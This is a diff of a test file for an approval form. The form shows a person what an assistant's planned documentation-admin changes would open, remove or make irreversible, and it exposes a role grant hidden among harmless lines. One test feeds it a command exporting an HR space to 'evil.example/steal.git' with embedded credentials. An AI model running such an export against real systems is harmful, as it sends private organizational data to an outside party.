@@ -25,42 +25,153 @@ async function agreeing(files: Record<string, string> = {}) {
   return { ...made, forms, reaction, plan, writes };
 }
 
+/** Returns the lines below a heading of a form, without their indent. */
+function below(form: string | undefined, heading: string): string[] {
+  const lines = form?.split('\n') ?? [];
+  const from = lines.findIndex((line) => line.startsWith(`${heading} (`));
+  if (from < 0) return [];
+  const rest = lines.slice(from + 1);
+  const end = rest.findIndex((line) => !line.startsWith('  '));
+  return rest.slice(0, end < 0 ? undefined : end).map((line) => line.slice(2));
+}
+
 describe('a form', () => {
-  test('shows the requests beside warnings', async () => {
-    const { plan, call, forms } = await agreeing({ 'role.json': '{"role":"admin"}' });
-    const lines = ['members update user_linus --role read', 'members update user_linus --input role.json'];
-    await call('apply_plan', { plan: await plan({ commands: lines }) });
-    expect(forms[0]).toContain(
-      'PATCH http://sandbox.localhost/v1/orgs/org_acme/members/user_linus {"role":"admin"}',
-    );
-    expect(forms[0]).toContain('Warnings:\n  warning: line 2 changes what line 1 changes');
-  });
-
-  test('shows all fields of a body with a long text, and counts what it leaves out', async () => {
+  test('shows where an address leads: only its user name and password are hidden', async () => {
     const { plan, call, forms } = await agreeing();
-    const filler = 'x'.repeat(1000);
-    const command = `custom-fields values set --space space_guides labels:='["${filler}"]' review_days:=30`;
+    const url = 'https://u:p@evil.example/steal.git';
+    const command = `git export --space space_hr --url ${url} --ref main --message x`;
     await call('apply_plan', { plan: await plan({ commands: [command] }) });
-    expect(forms[0]).toMatch(/PATCH .*x… \(900 more characters\).*"review_days":{"value":30}/);
-    expect(forms[0]).toMatch(/ {2}\$ docs-admin custom-fields .*x… \(\d+ more characters\)$/m);
+    expect(forms[0]).toContain('--url https://"$SECRET"@evil.example/steal.git');
+    expect(below(forms[0], 'Opens')[0]).toContain('(url: "https://***@evil.example/steal.git",');
+    expect(forms[0]).not.toContain('u:p');
   });
 
-  test('names every operation', async () => {
+  test('says in words what opens, what is lost, what cannot be undone and what else changes, in this order', async () => {
     const { plan, call, forms } = await agreeing();
     const commands = [
-      ...Array.from({ length: 30 }, (_, index) => `teams create --title T${index}`),
+      'teams update team_docs --title Handbook',
       'members update user_linus --role admin',
-      'teams members remove team_docs user_gil',
-      'collections update col_empty --title Other',
-      'custom-fields values set --space space_guides review_days:=30',
+      'teams members set team_docs user_gil --role owner',
+      'sites update site_docs --visibility unlisted',
       'spaces permissions set space_guides team_docs --role admin',
-      'change-requests update --space space_handbook 2 --subject Other',
-      'members remove user_linus',
+      'collections update col_empty --default-level admin',
+      'members remove user_dee',
     ];
     await call('apply_plan', { plan: await plan({ commands }) });
-    const [, , what] = forms[0]?.split('\n') ?? [];
-    expect(what).toMatch(/^What: 37 requests: 30 x teams\.create, .*1 x members\.remove$/);
-    expect(forms[0]).toContain('  ... and 17 more');
+    expect(forms[0]).toBe(`docs-admin: an assistant wants to change your documentation organization.
+Where: profile sandbox, http://sandbox.localhost, organization org_acme
+Opens (4):
+  Linus Bergström <linus@acme.example>: role in the organization becomes admin (now: create)
+  space Guides: the role of team Docs becomes admin (now: none)
+  collection Empty: default level becomes admin (now: inherit)
+  team Docs: "Gil (contractor)" <gil@contractor.example> (guest) becomes owner (now: member)
+Loses (2):
+  site Acme Docs: visibility becomes unlisted (now: public)
+  Dee Disabled <dee@acme.example> is removed
+What cannot be undone (1):
+  Remove a member from the organization and its teams: the service has no operation to invite people
+Know before (1):
+  The person loses all access. No request can add a member again.
+Other changes (1):
+  team Docs: title becomes Handbook (now: Docs)
+Command lines (7):
+${commands.map((line) => `  docs-admin ${line} --profile sandbox`).join('\n')}`);
+  });
+
+  test('begins with a role behind twenty harmless lines', async () => {
+    const { plan, call, forms } = await agreeing();
+    const harmless = Array.from({ length: 20 }, (_, at) => `custom-fields create f_${at} --type text`);
+    await call('apply_plan', {
+      plan: await plan({ commands: [...harmless, 'members update user_pat --role admin'] }),
+    });
+    expect(below(forms[0], 'Opens')).toEqual([
+      '"-Pat +1 @work" <pat@partner.example> (guest): role in the organization becomes admin (now: guest)',
+    ]);
+    expect(below(forms[0], 'Other changes')).toEqual([
+      expect.stringMatching(/^20 x is made \(type: text\): custom field f_0; .*; custom field f_19$/),
+    ]);
+  });
+
+  test('names all people of one request, with a role at its end', async () => {
+    const { plan, call, forms } = await agreeing();
+    const people = ['ines', 'jan', 'ana', 'min', 'tom', 'sofia', 'ravi', 'zoe', 'noa', 'omar', 'yuki', 'bo'];
+    const added = people.map((name) => `--add ${name}@acme.example`).join(' ');
+    const command = `teams members update team_design ${added} --role pat@partner.example=owner`;
+    await call('apply_plan', { plan: await plan({ commands: [command] }) });
+    const opens = below(forms[0], 'Opens').join('\n');
+    for (const name of people) expect(forms[0]).toContain(`<${name}@acme.example>`);
+    expect(opens).toContain('"-Pat +1 @work" <pat@partner.example> (guest) becomes owner (now: none)');
+  });
+
+  test('says what an organization file opens, by name', async () => {
+    const { plan, call, forms } = await agreeing({
+      'organization.yaml': [
+        'format: docs-admin-organization/1',
+        'teams: { Travel: { members: { gil@contractor.example: owner } } }',
+        'sites: { Internal: { visibility: public } }',
+        'collections: { Empty: { teams: { Travel: admin } } }',
+      ].join('\n'),
+    });
+    await call('apply_plan', { plan: await plan({ organization_file: 'organization.yaml' }) });
+    expect(below(forms[0], 'Opens')).toEqual([
+      expect.stringMatching(/^site Internal.*public/),
+      'collection Empty: the role of team Travel (new) becomes admin (now: none)',
+      'team Travel (new): "Gil (contractor)" <gil@contractor.example> (guest) becomes owner (now: none)',
+    ]);
+  });
+
+  test('shows long texts whole, and warnings', async () => {
+    const { plan, call, forms } = await agreeing({ 'role.json': '{"role":"admin"}' });
+    const filler = 'x'.repeat(1000);
+    const commands = [
+      `custom-fields values set --space space_guides labels:='["${filler}"]' review_days:=30`,
+      'members update user_linus --role read',
+      'members update user_linus --input role.json',
+    ];
+    await call('apply_plan', { plan: await plan({ commands }) });
+    expect(below(forms[0], 'Other changes')).toEqual([
+      expect.stringContaining(`space Guides: labels becomes [${filler}] (now: `),
+      expect.stringMatching(/^space Guides: review_days becomes 30/),
+    ]);
+    expect(below(forms[0], 'Command lines')[0]).toContain(filler);
+    expect(below(forms[0], 'Know before')).toEqual([
+      expect.stringContaining('warning: line 3 changes what line 2 changes'),
+    ]);
+  });
+
+  test('is refused if it is too long to be read, with the lines for a person', async () => {
+    const { call, writes } = await agreeing();
+    const filler = 'x'.repeat(8000);
+    const lines = [
+      `custom-fields values set --space space_guides labels:='["${filler}"]'`,
+      'members update user_pat --role admin',
+    ];
+    const { isError, structured, text } = await call('plan_change', { commands: lines });
+    expect(isError).toBe(true);
+    expect(structured.plan).toBeUndefined();
+    expect(text).toMatch(
+      /The form of this plan has \d+ characters, and a person is asked to read at most 16000/,
+    );
+    expect(structured.commandLines).toHaveLength(2);
+    expect(text).toContain(filler);
+    expect(writes()).toEqual([]);
+  });
+
+  test('names every thing of many requests, those that are alike in one line', async () => {
+    const { plan, call, forms } = await agreeing();
+    const titles = Array.from({ length: 30 }, (_, index) => `T${index}`);
+    const commands = [
+      ...titles.map((title) => `teams create --title ${title}`),
+      'teams members remove team_docs user_gil',
+      'change-requests update --space space_handbook 2 --subject Other',
+    ];
+    await call('apply_plan', { plan: await plan({ commands }) });
+    expect(below(forms[0], 'Other changes')[0]).toBe(
+      `30 x is made: ${titles.map((title) => `team ${title}`).join('; ')}`,
+    );
+    expect(below(forms[0], 'Loses')).toEqual([
+      'team Docs: "Gil (contractor)" <gil@contractor.example> (guest) is removed (now: member)',
+    ]);
   });
 });
 
